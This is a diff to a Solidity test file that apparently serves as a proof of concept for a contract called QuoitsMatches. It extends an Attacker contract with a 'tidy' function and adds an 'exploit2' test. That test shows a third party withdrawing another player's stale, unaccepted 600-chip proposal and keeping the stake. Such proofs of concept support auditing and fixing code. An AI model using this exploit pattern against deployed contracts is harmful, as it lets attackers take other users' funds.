@@ -44,6 +44,10 @@ contract Attacker {
     function run(QuoitsMatches house, uint256 id) external {
         house.abandon(id);
     }
+
+    function tidy(QuoitsMatches house, uint256 id) external {
+        house.withdraw(id);
+    }
 }
 
 contract Proof {
@@ -56,6 +60,7 @@ contract Proof {
     Player public bob;
     Attacker public passer;
     uint256 public overdue;
+    uint256 public stale; // proposed, and never accepted
 
     function setUp() public {
         vm.warp(START);
@@ -64,10 +69,11 @@ contract Proof {
         ann = new Player(house);
         bob = new Player(house);
         passer = new Attacker();
-        chips.issue(address(ann), 2000);
+        chips.issue(address(ann), 2600);
         chips.issue(address(bob), 2000);
         overdue = ann.propose(address(bob), address(this), 700, uint64(START + 10 days));
         bob.accept(overdue);
+        stale = ann.propose(address(bob), address(this), 600, uint64(START + 12 days));
         vm.warp(START + 14 days);
         chips.callRecess();
     }
@@ -84,7 +90,7 @@ contract Proof {
     }
 
     function test_Regular() public {
-        require(playersChips() == 4000 && house.isOverdue(overdue), "nothing lost");
+        require(playersChips() == 4600 && house.isOverdue(overdue), "nothing lost");
         vm.warp(START + 15 days);
         house.abandon(overdue);
         ann.collectIfAny();
@@ -120,7 +126,9 @@ contract Proof {
         require(chips.balanceOf(address(ann)) == 1596, "conceded");
         id = bob.propose(address(ann), address(this), 100, uint64(block.timestamp + 5 days));
         bob.withdraw(id);
-        require(chips.balanceOf(address(bob)) == 2380 && chips.balanceOf(address(house)) == 4, "nothing stays");
+        require(chips.balanceOf(address(bob)) == 2380, "withdrawn");
+        ann.withdraw(stale);
+        require(chips.balanceOf(address(ann)) == 2196 && chips.balanceOf(address(house)) == 4, "nothing stays");
         try bob.accept(id) {
             revert("withdrawn");
         } catch {}
@@ -134,6 +142,17 @@ contract Proof {
         uint256 before = playersChips();
         exploit();
         require(playersChips() + 1000 <= before, "stakes are lost");
+    }
+
+    // The recess is over a day later, and the proposal is out of date as before.
+    function exploit2() public {
+        vm.warp(START + 15 days);
+        passer.tidy(house, stale);
+    }
+
+    function test_Exploit2() public {
+        exploit2();
+        require(chips.balanceOf(address(passer)) == 600, "somebody else's stake");
     }
 
     function target() public view returns (address) {
